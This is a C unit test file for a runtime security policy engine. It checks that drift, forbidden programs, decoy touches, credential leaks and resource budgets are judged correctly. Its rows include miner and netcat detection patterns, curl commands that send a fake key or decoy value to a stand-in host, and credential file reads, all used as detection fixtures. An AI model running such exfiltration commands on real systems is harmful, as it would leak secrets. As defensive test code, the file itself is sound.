/* SPDX-License-Identifier: Apache-2.0 */
/* Drift, forbidden programs, decoys, credentials, budgets: what evaluate() makes of them. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "base/sha256.h"
#include "../../lib/policy.h"

#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* SHA-256 of "abc", from FIPS 180-4's examples. */
#define ABC "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
#define KEY "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzzKEYxxxx"

static unsigned char *compile(const char *spec, struct gb_policy *ret_policy)
{
	struct loaded loaded = load_spec(spec);

	*ret_policy = loaded.policy;
	return loaded.blob;
}

static const struct row {
	const char *name, *spec;
	enum gb_activity_kind kind;
	const char *subject, *object;
	struct gb_span arguments, content;
	enum gb_reason reason;
} rows[] = {
#define RUN  GB_ACTIVITY_PROCESS_START
#define READ GB_ACTIVITY_FILE_READ
#define NO   GB_SPAN_EMPTY
        {"drift: /tmp", "drift: {}", RUN, "/tmp/x", "", NO, NO, GB_R_DRIFT},
        {"drift: memfd", "drift: {}", RUN, "/memfd:x (deleted)", "", NO, NO, GB_R_DRIFT},
        {"drift: deleted", "drift: {}", RUN, "/opt/x (deleted)", "", NO, NO, GB_R_DRIFT},
        {"drift: near miss", "drift: {}", RUN, "/usrx/bin/id", "", NO, NO, GB_R_DRIFT},
        {"drift: base image", "drift: {}", RUN, "/usr/bin/id", "", NO, NO, GB_R_NONE},
        {"drift: package", "drift: {}", RUN, "/var/task/bin/tool", "", NO, NO, GB_R_NONE},
        {"drift: library", "drift: {}", GB_ACTIVITY_LIBRARY_MAP, "/tmp/x.so", "", NO, NO, GB_R_DRIFT},
        {"drift: library of a layer", "drift: {}", GB_ACTIVITY_LIBRARY_MAP, "/opt/lib/x.so", "", NO, NO, GB_R_NONE},
        {"drift: script", "drift: {}", RUN, "/usr/bin/dash", "/tmp/x.sh", NO, NO, GB_R_DRIFT},
        {"drift: script of the package", "drift: {}", RUN, "/usr/bin/dash", "/var/task/x.sh", NO, NO, GB_R_NONE},
        {"drift: from a pipe", "drift: {}", RUN, "/usr/bin/dash", "stdin:pipe", NO, NO, GB_R_NONE},
        {"drift: own places", "drift: {trusted: [/app/**]}", RUN, "/app/x", "", NO, NO, GB_R_NONE},
        {"drift: only own places", "drift: {trusted: [/app/**]}", RUN, "/usr/bin/id", "", NO, NO, GB_R_DRIFT},
        {"drift: reading", "drift: {}", READ, "/tmp/x", "", NO, NO, GB_R_NONE},
        {"drift off", "controls: {drift: off}, drift: {}", RUN, "/tmp/x", "", NO, NO, GB_R_NONE},
        {"no drift", "stance: open", RUN, "/tmp/x", "", NO, NO, GB_R_NONE},
        {"drift by mode alone", "controls: {drift: block}", RUN, "/tmp/x", "", NO, NO, GB_R_DRIFT},
        {"drift: an exclusion is no trust", "drift: {}, exclusions: [{processes: [/tmp/x]}]", RUN, "/tmp/x", "", NO, NO,
                GB_R_DRIFT},
        {"credential: excluded", "exclusions: [{files: {read: [/proc/self/environ]}}]", READ, "/proc/self/environ", "",
                NO, NO, GB_R_NONE},
        {"forbidden: name", "forbidden: {names: [xmrig*]}", RUN, "/usr/bin/xmrig-6", "", NO, NO,
                GB_R_FORBIDDEN_PROGRAM},
        {"forbidden: argv[0]", "forbidden: {names: [xmrig]}", RUN, "/usr/bin/x", "", GB_SPAN("./xmrig\0-o\0"), NO,
                GB_R_FORBIDDEN_PROGRAM},
        {"forbidden: no name", "forbidden: {names: [xmrig]}", RUN, "/usr/bin/x", "", GB_SPAN("x\0xmrig\0"), NO,
                GB_R_NONE},
        {"forbidden: path", "forbidden: {paths: [\"/**/bin/nc*\"]}", RUN, "/usr/bin/ncat", "", NO, NO,
                GB_R_FORBIDDEN_PROGRAM},
        {"forbidden: hash", "forbidden: {sha256: [" ABC "]}", RUN, "/tmp/x", "", NO, GB_SPAN("abc"),
                GB_R_FORBIDDEN_PROGRAM},
        {"forbidden: other hash", "forbidden: {sha256: [" ABC "]}", RUN, "/tmp/x", "", NO, GB_SPAN("abd"), GB_R_NONE},
        {"forbidden: mark", "forbidden: {marks: [\"stratum+tcp://\"]}", RUN, "/tmp/x", "", NO,
                GB_SPAN("\x7f"
                        "ELF\0\0stratum+tcp://pool"),
                GB_R_FORBIDDEN_PROGRAM},
        {"forbidden: mark in arguments", "forbidden: {marks: [\"stratum+tcp://\"]}", RUN, "/usr/bin/python3", "",
                GB_SPAN("python3\0-o\0stratum+tcp://p:1\0"), NO, GB_R_FORBIDDEN_PROGRAM},
        {"forbidden: library", "forbidden: {names: [evil.so]}", GB_ACTIVITY_LIBRARY_MAP, "/opt/evil.so", "", NO, NO,
                GB_R_FORBIDDEN_PROGRAM},
        {"decoy: file", "decoys: {files: [/tmp/.backup/key]}", READ, "/tmp/.backup/key", "", NO, NO,
                GB_R_DECOY_TOUCHED},
        {"decoy: no exclusion",
                "decoys: {files: [/tmp/.backup/key]}, exclusions: [{files: {read: [/tmp/.backup/key]}}]", READ,
                "/tmp/.backup/key", "", NO, NO, GB_R_DECOY_TOUCHED},
        {"decoy: before a rule", "decoys: {files: [/tmp/.backup/key]}, rules: [{files: {read: [/tmp/.backup/key]}}]",
                READ, "/tmp/.backup/key", "", NO, NO, GB_R_DECOY_TOUCHED},
        {"decoy: other file", "decoys: {files: [/tmp/.backup/key]}", READ, "/tmp/.backup/key2", "", NO, NO, GB_R_NONE},
        {"decoy: deleting is cleaning up", "decoys: {files: [/tmp/.backup/key]}", GB_ACTIVITY_FILE_DELETE,
                "/tmp/.backup/key", "", NO, NO, GB_R_NONE},
        {"decoy: lookup", "decoys: {hosts: [db.corp.internal]}", GB_ACTIVITY_NAME_LOOKUP, "db.corp.internal", "", NO,
                NO, GB_R_DECOY_TOUCHED},
        {"decoy: connection", "decoys: {hosts: [db.corp.internal]}", GB_ACTIVITY_NET_CONNECT, "10.0.0.1:5432",
                "db.corp.internal", NO, NO, GB_R_DECOY_TOUCHED},
        {"decoy: value", "decoys: {variables: [DB_PASSWORD]}", RUN, "/usr/bin/curl", "",
                GB_SPAN("curl\0http://x/?decoydecoydecoydecoy\0"), NO, GB_R_DECOY_TOUCHED},
        {"decoys off", "controls: {decoys: off}, decoys: {files: [/tmp/.backup/key]}", READ, "/tmp/.backup/key", "", NO,
                NO, GB_R_NONE},
        {"credential: arguments", "stance: open", RUN, "/usr/bin/curl", "", GB_SPAN("curl\0http://x/?k=" KEY "\0"), NO,
                GB_R_CREDENTIAL_LEAVES},
        {"credential: name", "stance: open", GB_ACTIVITY_NAME_LOOKUP, "supersecretsupersecret.evil.test", "", NO, NO,
                GB_R_CREDENTIAL_LEAVES},
        {"credential: part of it", "stance: open", RUN, "/usr/bin/curl", "", GB_SPAN("curl\0wJalrXUtnFEMI\0"), NO,
                GB_R_NONE},
        {"credential: environment", "stance: open", READ, "/proc/self/environ", "", NO, NO, GB_R_ENVIRONMENT_READ},
        {"credential: thread's", "stance: open", READ, "/proc/12/task/13/environ", "", NO, NO, GB_R_ENVIRONMENT_READ},
        {"credential: memory of another", "stance: open", READ, "/proc/12/mem", "", NO, NO, GB_R_ENVIRONMENT_READ},
        {"credential: memory of its own", "stance: open", READ, "/proc/self/mem", "", NO, NO, GB_R_NONE},
        {"credential: a name like it", "stance: open", READ, "/etc/environ", "", NO, NO, GB_R_NONE},
        {"credentials off", "controls: {credentials: off}", READ, "/proc/self/environ", "", NO, NO, GB_R_NONE},
        {"budget: processes", "budgets: {processes: 5}", RUN, "/bin/x", "", NO, NO, GB_R_BUDGET_PROCESSES},
        {"budget: not yet", "budgets: {processes: 6}", RUN, "/bin/x", "", NO, NO, GB_R_NONE},
        {"budget: connections", "budgets: {connections: 5}", GB_ACTIVITY_NET_CONNECT, "1.2.3.4:80", "", NO, NO,
                GB_R_BUDGET_CONNECTIONS},
        {"budget: /tmp", "budgets: {tmpMegabytes: 5}", GB_ACTIVITY_FILE_WRITE, "/tmp/x", "", NO, NO, GB_R_BUDGET_TMP},
        {"budget: elsewhere", "budgets: {tmpMegabytes: 5}", GB_ACTIVITY_FILE_WRITE, "/dev/null", "", NO, NO, GB_R_NONE},
        {"budget: not over", "budgets: {cpuSeconds: 5}", RUN, "/bin/x", "", NO, NO, GB_R_NONE},
};

/* Credential, decoy and a lower-case credential; six programs and connections; /tmp used up. */
static enum gb_reason judge(const struct gb_policy *policy, const struct row *row, enum gb_mode posture)
{
	static const struct gb_secret secrets[GB_SECRETS_MAX] = {
	        {GB_SECRET_CREDENTIAL, 40, KEY},
	        {GB_SECRET_DECOY, 20, "decoydecoydecoydecoy"},
	        {GB_SECRET_CREDENTIAL, 22, "SuperSecretSuperSecret"},
	        {GB_SECRET_CREDENTIAL, 3, "url"},
	};
	static const uint32_t usage[_GB_USAGE_MAX] = {6, 6, 0, 0, 0};
	struct gb_policy_context context = {.policy = policy,
	        .posture = posture,
	        .secrets = secrets,
	        .usage = usage,
	        .exceeded = 1u << GB_USAGE_TMP};
	struct gb_activity activity = {.kind = row->kind,
	        .subject = gb_span_cstr(row->subject),
	        .object = gb_span_cstr(row->object),
	        .arguments = row->arguments,
	        .content = row->content,
	        .address = {.family = GB_ADDRESS_IP}};
	struct gb_verdict verdict = gb_policy_evaluate(&context, &activity);

	if ((verdict.reason == GB_R_NONE) != (verdict.decision == GB_ALLOW))
		fail_msg("%s: decision %d", row->name, verdict.decision);
	if (verdict.reason != GB_R_NONE && verdict.decision != (posture == GB_MODE_BLOCK ? GB_DENY : GB_REPORT))
		fail_msg("%s: decision %d with posture %d", row->name, verdict.decision, posture);
	return verdict.reason;
}

static void controls(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct gb_policy policy;
		unsigned char *blob = compile(rows[i].spec, &policy);

		for (int posture = GB_MODE_DETECT; posture <= GB_MODE_BLOCK; posture++) {
			enum gb_reason reason = judge(&policy, &rows[i], (enum gb_mode)posture);

			if (reason != rows[i].reason)
				fail_msg("%s: %s", rows[i].name, gb_reason_facts(reason)->name);
		}
		free(blob);
	}
}

static void without_policy(void **state)
{
	static const struct row leak = {
	        .name = "leak", .kind = RUN, .subject = "/x", .object = "", .arguments = GB_SPAN(KEY)};

	(void)state;
	assert_int_equal(judge(NULL, &leak, GB_MODE_BLOCK), GB_R_CREDENTIAL_LEAVES);
	assert_false(gb_policy_wants_content(NULL, GB_MODE_BLOCK, GB_SPAN("/tmp/x")));
}

static void content_is_asked_for(void **state)
{
	struct gb_policy policy;
	unsigned char *blob = compile("forbidden: {marks: [abcdef]}", &policy);

	(void)state;
	assert_true(gb_policy_wants_content(&policy, GB_MODE_BLOCK, GB_SPAN("/tmp/x")));
	assert_false(gb_policy_wants_content(&policy, GB_MODE_BLOCK, GB_SPAN("/usr/bin/x")));
	assert_false(gb_policy_wants_content(&policy, GB_MODE_OFF, GB_SPAN("/tmp/x")));
	free(blob);
	blob = compile("forbidden: {names: [x]}", &policy);
	assert_false(gb_policy_wants_content(&policy, GB_MODE_BLOCK, GB_SPAN("/tmp/x")));
	free(blob);
}

/* Lengths around the block's, against libsodium's. */

static void sha256(void **state)
{
	unsigned char message[300], ours[GB_SHA256_BYTES], theirs[GB_SHA256_BYTES];

	(void)state;
	for (size_t i = 0; i < sizeof(message); i++)
		message[i] = (unsigned char)(i * 7 + 3);
	for (size_t n = 0; n <= sizeof(message); n++) {
		gb_sha256(gb_span_of(message, n), ours);
		(void)crypto_hash_sha256(theirs, message, n);
		assert_memory_equal(ours, theirs, sizeof(ours));
	}
}

static const struct bad {
	const char *spec, *complaint;
} bad_rows[] = {
        {"drift: {trusted: [tmp]}", "must be absolute"},
        {"drift: {trust: [/x]}", "trusted"},
        {"forbidden: {names: [a/b]}", "without a path"},
        {"forbidden: {names: [\"*\"]}", "needs letters"},
        {"forbidden: {sha256: [abc]}", "64 digits"},
        {"forbidden: {marks: [abc]}", "6 bytes or more"},
        {"forbidden: {lists: [none.list]}", "has not been read"},
        {"decoys: {files: [/etc/x]}", "below /tmp"},
        {"decoys: {files: [\"/tmp/*\"]}", "below /tmp"},
        {"decoys: {variables: [A-B]}", "name of a variable"},
        {"decoys: {hosts: [UPPER]}", "lower-case"},
        {"budgets: {processes: 0}", "from 1"},
        {"budgets: {procesess: 1}", "processes"},
        {"budgets: {processes: 1, processes: 2}", "second time"},
        {"hygiene: {keep: [/var/x]}", "below /tmp"},
};

static void complaints(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(bad_rows) / sizeof(bad_rows[0]); i++) {
		struct gb_policyc_document *document = NULL;
		struct gb_diag diag = {0};
		unsigned char *blob = NULL;
		char text[512];
		size_t n = 0;
		int r;

		(void)snprintf(text, sizeof(text), POLICY_HEAD "spec: {posture: block, %s}", bad_rows[i].spec);
		r = gb_policyc_parse(gb_span_cstr(text), &document, &diag);
		if (r == 0)
			r = gb_policyc_compile(document, 1, &blob, &n, &diag);
		if (r >= 0 || strstr(diag.message, bad_rows[i].complaint) == NULL)
			fail_msg("%s: %d, \"%s\"", bad_rows[i].spec, r, diag.message);
		gb_policyc_document_free(document);
		free(blob);
	}
}

/* Printed, read again, compiled again: the same bytes. And from the blob. */
static void round_trip(void **state)
{
	static const char *const specs[] = {
	        "drift: {}",
	        "drift: {trusted: [/b/**, /a/**]}, controls: {drift: detect}",
	        "forbidden: {names: [b, a], paths: [\"/**/x\"], sha256: [" ABC
	        "], marks: [abcdef], date: \"2026-11-20\"}",
	        "decoys: {variables: [B, A], files: [/tmp/x], hosts: [a.test]}, controls: {credentials: off}",
	        "budgets: {processes: 1, connections: 2, children: 3, tmpMegabytes: 4, cpuSeconds: 5}",
	        "hygiene: {keep: [\"/tmp/cache/**\"]}, controls: {hygiene: detect, drift: block}",
	        "budgets: {}, hygiene: {}, decoys: {}, forbidden: {}",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(specs) / sizeof(specs[0]); i++) {
		struct gb_policyc_document *document = NULL, *again = NULL;
		struct gb_policy policy;
		unsigned char *first = compile(specs[i], &policy), *second = NULL;
		char *printed = NULL;
		size_t n = 0, printed_n = 0;
		struct gb_diag diag = {0};
		FILE *out = open_memstream(&printed, &printed_n);

		assert_int_equal(gb_policyc_of_blob(&policy, &document), 0);
		gb_policyc_print(document, out);
		(void)fclose(out);
		if (gb_policyc_parse(gb_span_of(printed, printed_n), &again, &diag) < 0)
			fail_msg("%s:\n%s\n%s", specs[i], printed, diag.message);
		assert_int_equal(gb_policyc_compile(again, 1, &second, &n, &diag), 0);
		if (n != policy.header->total_bytes || memcmp(first, second, n) != 0)
			fail_msg("%s: other bytes from\n%s", specs[i], printed);
		gb_policyc_document_free(document);
		gb_policyc_document_free(again);
		free(first);
		free(second);
		free(printed);
	}
}

static void list_files(void **state)
{
	struct gb_policyc_document *document = gb_policyc_document_new();
	struct gb_diag diag = {0};

	(void)state;
	assert_int_equal(
	        gb_policyc_add_forbidden_text(document, "x",
	                GB_SPAN("# miners\n# date: 2026-11-20\n\nname xmrig\n mark stratum+tcp://\npath /tmp/*\n"
	                        "sha256 " ABC "\n"),
	                &diag),
	        0);
	assert_int_equal(document->guards.texts[GB_BLOB_FORBIDDEN_NAMES].count, 1);
	assert_int_equal(document->guards.texts[GB_BLOB_FORBIDDEN_MARKS].count, 1);
	assert_int_equal(document->guards.texts[GB_BLOB_FORBIDDEN_HASHES].count, 1);
	assert_int_equal(document->guards.forbidden_day, 20777);
	assert_int_equal(gb_policyc_add_forbidden_text(document, "y", GB_SPAN("# date: 2026-01-01\n"), &diag), 0);
	assert_int_equal(document->guards.forbidden_day, 20454); /* the oldest counts */
	assert_true(gb_policyc_add_forbidden_text(document, "z", GB_SPAN("name a\nnonsense\n"), &diag) < 0);
	assert_non_null(strstr(diag.message, "z:2: "));
	gb_policyc_document_free(document);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	        cmocka_unit_test(controls),
	        cmocka_unit_test(without_policy),
	        cmocka_unit_test(content_is_asked_for),
	        cmocka_unit_test(sha256),
	        cmocka_unit_test(complaints),
	        cmocka_unit_test(round_trip),
	        cmocka_unit_test(list_files),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
